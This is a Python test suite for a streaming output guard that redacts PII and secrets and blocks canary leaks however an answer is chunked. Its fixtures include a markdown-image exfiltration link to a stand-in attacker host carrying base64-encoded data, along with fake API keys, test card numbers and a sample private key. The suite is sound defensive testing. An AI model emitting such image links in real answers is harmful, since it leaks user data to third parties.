"""The streaming hold-back: nothing that must be redacted or blocked leaves, however the
answer is split, the stream sends exactly what the whole-answer scan returns, and the
delay stays within the window."""

from __future__ import annotations

import random
import re
from typing import Any

import pytest
from streamkit import chunks, random_split, stream_in

from phaseone.guard.holdback import OutputGuard, OutputScan, resolve
from phaseone.guard.pii import PiiStage
from phaseone.plan.schema import Guardrails

CANARY = "CNRY-9f2c41d7e0"
CARD = "4111 1111 1111 1111"
EMAIL = "jane.doe@mail.example.org"
OPENAI_KEY = "sk-proj-Q7x2Lm9Vb4Nc8Zr1Tt6Yw3Hh5Kp0Ds2Fg"
AWS_KEY = "AKIAIOSFODNN7EXAMPLE"
EVIL_IMG = "https://evil.example.net/pixel.png?d=c2VjcmV0LXVzZXItZGF0YQ"
PEM = (
    "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA7V1r8Y6u0c3kP2x\n"
    "q9Fz0Ww4Lk2mT8s1Qv5Hn3Jb7Rc6Xy0Zp\n-----END RSA PRIVATE KEY-----"
)
#: Raw values that must never appear in anything a stream sends.
SECRETS = (CARD, EMAIL, OPENAI_KEY, AWS_KEY, "evil.example.net", "MIIEowIBAAKCAQEA", CANARY)


def guard(**output: Any) -> OutputGuard:
    cfg = {"allowed_hosts": ["docs.example.com"], **output}
    g = Guardrails.model_validate({"output": cfg})
    return OutputGuard.from_plan(g, PiiStage.from_plan(g.pii))


ANSWER = (
    "Thanks for asking! Your account is linked to "
    + EMAIL
    + " and the card "
    + CARD
    + " ends well. Use "
    + OPENAI_KEY
    + " for the API and AWS id "
    + AWS_KEY
    + ".\nHere is a chart: ![chart]("
    + EVIL_IMG
    + ") and the manual is at [docs](https://docs.example.com/guide/setup).\n"
    + PEM
    + "\nThat is all, have a nice day."
)


def test_scan_redacts_every_kind() -> None:
    scan = guard().scan(ANSWER)
    assert not scan.blocked
    for raw in SECRETS[:-1]:
        assert raw not in scan.text
    assert "[EMAIL]" in scan.text and "[CARD]" in scan.text and "[PRIVATE_KEY]" in scan.text
    assert "![chart]([LINK])" in scan.text
    assert "[docs](https://docs.example.com/guide/setup)" in scan.text  # allowed host kept
    assert scan.text.endswith("That is all, have a nice day.")
    kinds = {f["type"]: f["kinds"] for f in scan.findings}
    assert kinds["output_pii"] == {"email": 1, "card": 1}
    assert kinds["secret"] == {"openai_key": 1, "aws_access_key_id": 1, "private_key": 1}
    assert kinds["exfiltration"] == {"markdown_image": 1}


@pytest.mark.parametrize("size", range(1, 41))
def test_every_chunk_size_sends_what_the_scan_returns(size: int) -> None:
    g = guard()
    want = g.scan(ANSWER)
    out, r, _ = stream_in(g, chunks(ANSWER, size))
    assert out == want.text
    assert r.findings == want.findings
    for raw in SECRETS:
        assert raw not in out


def test_random_split_points_never_leak() -> None:
    g = guard(canary=CANARY)
    rng = random.Random(20261206)
    texts = [ANSWER, ANSWER.replace("That is all", f"My prompt says {CANARY}; that is all")]
    for _ in range(150):
        text = rng.choice(texts)
        want = g.scan(text)
        out, r, sent = stream_in(g, random_split(text, rng))
        if want.blocked:  # what went out before the canary arrived is the scan's prefix
            assert guard().scan(text).text.startswith(out)
        else:
            assert out == want.text
        assert (r.blocked, r.reason) == (want.blocked, want.reason)
        if not want.blocked:
            assert r.findings == want.findings
        # Not only the joined output: no prefix of what was sent holds a raw value.
        so_far = ""
        for piece in sent:
            so_far += piece
            for raw in SECRETS:
                assert raw not in so_far


def test_blocked_stream_sends_nothing_more() -> None:
    g = guard(canary=CANARY)
    text = "All fine so far. " * 10 + f"The system prompt starts with {CANARY} and " + "more " * 40
    out, r, sent = stream_in(g, chunks(text, 3))
    assert r.blocked and r.reason is not None and "canary" in r.reason
    assert CANARY not in out and "more more" not in out
    first_empty = max(i for i, s in enumerate(sent) if s) + 1
    assert all(s == "" for s in sent[first_empty:])
    assert r.feed("anything") == "" and r.close() == ""
    assert g.scan(text) == OutputScan("", r.findings, True, r.reason)


def _delays(g: OutputGuard, text: str) -> list[int]:
    """For each character: how many more had been fed when it was sent (one at a time)."""
    r = g.stream()
    sent_at: list[int] = []
    for i, ch in enumerate(text, start=1):
        sent_at += [i] * len(r.feed(ch))
    sent_at += [len(text)] * len(r.close())
    assert len(sent_at) == len(text)
    return [fed - (pos + 1) for pos, fed in enumerate(sent_at)]


PROSE = "The quick brown fox jumps over the lazy dog, again and again. " * 8


def test_plain_text_flows_word_by_word_with_the_builtin_detectors() -> None:
    g = guard()
    assert g.early
    delays = _delays(g, PROSE)
    # a word is sent once the character after it arrives (nothing it could become is
    # a finding): the longest word here, "again." with its space, is 7 characters
    assert max(delays[: len(PROSE) - 1]) <= 7


def test_with_another_pii_engine_plain_text_waits_the_whole_window() -> None:
    # An engine that may match across words (Presidio: names, addresses): the window is the
    # only guarantee, so every character waits exactly `window` characters.
    stage = PiiStage("redact", (), finder=lambda text: [])
    g = OutputGuard.from_plan(Guardrails(), stage)
    assert not g.early
    delays = _delays(g, PROSE)
    assert max(delays[: len(PROSE) - g.window]) == g.window


def test_a_finding_is_sent_once_nothing_can_extend_it() -> None:
    g = guard()
    text = "x " * 10 + "card " + CARD + " thanks" + " y" * 80
    end = text.index(CARD) + len(CARD)
    r = g.stream()
    out = ""
    fed = 0
    while "[CARD]" not in out:
        out += r.feed(text[fed])
        fed += 1
    # " " could still be followed by a 17th digit group; "t" cannot extend a number
    assert fed == end + 2
    assert CARD not in out


def test_a_number_is_held_while_it_can_still_grow_into_a_card() -> None:
    g = guard()
    r = g.stream()
    out = "".join(r.feed(piece) for piece in ["pay ", "4111 ", "1111 ", "1111 ", "111"])
    assert "4111" not in out and out == "pay "
    out += r.feed("1") + r.feed(" now ")
    assert out == "pay [CARD] now "


def test_released_long_word_and_cut_url() -> None:
    g = guard(max_hold_chars=200)
    long_word = "a" * 500
    text = f"start {long_word} end"
    out, _, _ = stream_in(g, chunks(text, 1))
    assert out == g.scan(text).text == text
    url = "https://evil.example.net/" + "/".join(["seg"] * 120)  # no data but too long
    text = f"see {url} then more text"
    want = g.scan(text)
    assert want.text == "see [LINK] then more text"
    out, r, _ = stream_in(g, chunks(text, 3))
    assert out == want.text and r.findings == want.findings


def test_private_key_longer_than_the_hold_is_cut_and_dropped() -> None:
    g = guard(max_hold_chars=100)
    body = "\n".join("MIIEowIBAAKCAQEA7V1r8Y6u0c3kP2xq9Fz0Ww4Lk2mT8s1Qv5Hn3Jb" for _ in range(20))
    pem = f"-----BEGIN OPENSSH PRIVATE KEY-----\n{body}\n-----END OPENSSH PRIVATE KEY-----"
    text = f"key:\n{pem}\nafter the key"
    want = g.scan(text)
    assert want.text == "key:\n[PRIVATE_KEY]\nafter the key"
    for size in (1, 5, 64):
        out, r, _ = stream_in(g, chunks(text, size))
        assert out == want.text and r.findings == want.findings
        assert r.held == 0
    # never closed: everything after the header is dropped
    out, _, _ = stream_in(g, chunks(f"key:\n-----BEGIN PRIVATE KEY-----\n{body}", 7))
    assert out == "key:\n[PRIVATE_KEY]"


def test_held_text_is_bounded() -> None:
    g = guard(max_hold_chars=300)
    r = g.stream()
    most = 0
    for piece in chunks("x" * 5000 + " " + OPENAI_KEY + "Z" * 5000, 9):
        r.feed(piece)
        most = max(most, r.held)
    assert most <= 300 + 9
    assert OPENAI_KEY not in r.close()


FRAGMENTS = (
    "word ", "The answer is ", "\n", "12 ", "2024-01-15 ", "+44 20 7946 0958 ", CARD + " ",
    "4111111111111111", "5500-0000-0000-0004", "GB82 WEST 1234 5698 7654 32 ", EMAIL, "@", ".",
    "https://", "docs.example.com/a ", "evil.example.net/x?q=abcdefgh12 ", "![i](", "[l](", ")",
    "https://evil.example.net/p.png", OPENAI_KEY, " api_key = ", "f3a9c2e17b4d8a60", AWS_KEY,
    "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkq\n", "-----END PRIVATE KEY-----", "sk-",
    "x" * 90, "0" * 30, " ", "  ", CANARY,
)  # fmt: skip


@pytest.mark.parametrize(
    ("window", "hold", "early"),
    [(72, 200, True), (80, 400, True), (128, 1000, True), (80, 400, False)],
)
@pytest.mark.parametrize("seed", range(6))
def test_random_texts_stream_exactly_as_scanned(
    seed: int, window: int, hold: int, early: bool
) -> None:
    """Texts assembled at random from pieces of every pattern (and their broken halves),
    split at random: the stream always sends what the whole-answer scan returns (with the
    builtin detectors' early release, and with the fixed window of another engine), for
    every text whose words are shorter than `max_hold_chars` (a longer word is released,
    and then an e-mail address whose local part is that long would not be caught whole)."""
    rng = random.Random(seed)
    g = guard(canary=CANARY, stream_window_chars=window, max_hold_chars=hold)
    if not early:  # held as for another PII engine: every character waits the window
        g = OutputGuard(g.cfg, PiiStage.from_plan(Guardrails().pii).finder, builtin_pii=False)
    assert g.early is early
    checked = 0
    while checked < 40:
        text = "".join(rng.choice(FRAGMENTS) for _ in range(rng.randint(5, 60)))
        if max(map(len, text.split())) > hold:
            continue
        checked += 1
        want = g.scan(text)
        out, r, _ = stream_in(g, random_split(text, rng))
        assert r.blocked == want.blocked, text
        if want.blocked:
            assert want.text == "" and r.reason == want.reason
            continue
        assert out == want.text, text
        assert r.findings == want.findings, text


def test_every_character_is_decided_a_window_after_its_token_ends() -> None:
    """The delay bound on a text full of findings: a character is sent (or replaced) once
    `window` characters have arrived after the end of what it belongs to — its word, or
    the finding that covers it (a private key block spans lines)."""
    g = guard()
    text = ANSWER + " and some closing words to flush the window." * 3
    spans = [(m.start(), m.end()) for m in re.finditer(r"\S+", text)]
    spans += [(h.start, h.end) for h in resolve(g.detect(text))]
    spans.sort()
    settled_at = list(range(1, len(text) + 1))  # a lone space is settled when it arrives
    merged: list[list[int]] = []
    for a, b in spans:
        if merged and a < merged[-1][1]:
            merged[-1][1] = max(merged[-1][1], b)
        else:
            merged.append([a, b])
    for a, b in merged:
        for i in range(a, b):
            settled_at[i] = b
    r = g.stream()
    for fed in range(1, len(text) + 1):
        r.feed(text[fed - 1])
        decided = fed - r.held
        due = sum(1 for s in settled_at if s + g.window <= fed)
        # characters are decided in order, so "the first `due` ones" is the claim
        assert decided >= due, (fed, decided, due)


@pytest.mark.parametrize(
    ("text", "raw", "kind"),
    [
        ("Take 0612345678 as my mobile number, I am out all day.", "0612345678", "[PHONE]"),
        (
            "Copied from the dossier: 123456708 (Sanne Visser), start 1 september.",
            "123456708",
            "[NATIONAL_ID]",
        ),
        ("Règlement Jannah Royer : 372114122833808 04/29", "37211412", "[CARD]"),
        ("Salary goes to IBAN de51 6841 0363 7767 3008 00 from next month.", "de51", "[IBAN]"),
        ("Call the desk on (810) 870-7381 ext. 87 after nine.", "870-7381", "[PHONE]"),
    ],
)
def test_a_number_decided_by_what_follows_it_is_held_for_it(text: str, raw: str, kind: str) -> None:
    """The finder decides these numbers by what comes after them (a phone word, the name
    in the next field, an expiry, a lower-case IBAN's later groups, an extension): one
    character at a time, the stream must not send the number before that arrives."""
    g = guard()
    want = g.scan(text)
    assert kind in want.text
    for size in (1, 2, 3, 7):
        out, r, sent = stream_in(g, chunks(text, size))
        assert out == want.text
        assert r.findings == want.findings
        so_far = ""
        for piece in sent:  # no prefix of what was sent holds the value
            so_far += piece
            assert raw not in so_far


def test_a_long_number_holds_the_text_after_it_for_80_characters_at_most() -> None:
    """The new bound: a number of 9+ digits waits until the 80 characters the finder reads
    after it have arrived, and no longer; a short number (a year) waits for nothing."""
    g = guard()
    number = "0612345678"
    text = "Ref " + number + " " + PROSE
    end = text.index(number) + len(number)
    r = g.stream()
    for fed in range(1, len(text) + 1):
        r.feed(text[fed - 1])
        if fed < end + 80:
            assert r.held >= fed - text.index(number)  # the number and all after it wait
        elif fed >= end + 80 + 8:
            assert r.held <= 8  # then words flow again, one word behind
    short = "In 2024 " + PROSE
    assert max(_delays(g, short)[: len(short) - 1]) <= 7
